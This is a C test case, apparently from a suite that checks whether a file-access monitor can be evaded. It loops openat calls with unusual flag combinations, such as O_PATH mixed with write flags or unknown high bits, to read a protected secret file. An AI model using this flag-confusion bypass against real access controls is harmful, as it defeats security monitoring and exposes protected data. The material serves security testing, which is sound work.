/* technique: hides O_PATH from the judge or from the kernel in flags that only one of them reads
 * source: open(2): unknown flags are ignored; fs/open.c, build_open_flags()
 * success: the content of vault/secret.txt on the output
 * control: permissive
 * event: FileOpenReadOnly
 */
#include "attack.h"

int main(void)
{
	static const unsigned long flags[] = { O_PATH | O_TRUNC, O_PATH | O_CREAT,
					       O_PATH | O_RDWR,	 1ul << 31 | O_RDONLY,
					       1ul << 30,	 O_TMPFILE & ~O_DIRECTORY,
					       077000000 };

	for (unsigned i = 0; i < sizeof flags / sizeof *flags; i++) {
		int fd = (int)syscall(SYS_openat, AT_FDCWD, SECRET_FILE, flags[i], 0600);
		if (fd >= 0 && show(fd) == 0)
			return 0;
	}
	return show_path(SECRET_FILE);
}
